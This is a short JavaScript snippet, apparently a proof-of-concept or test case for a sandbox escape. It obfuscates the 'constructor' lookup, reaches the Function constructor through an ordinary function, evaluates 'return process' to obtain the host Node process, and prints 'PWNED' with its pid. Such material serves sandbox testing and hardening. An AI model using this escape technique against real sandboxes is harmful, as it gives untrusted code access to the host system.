'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class K { *[Symbol.iterator]() { yield t; } }
const o = Date.now() > 1 ? [...new K()][0] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
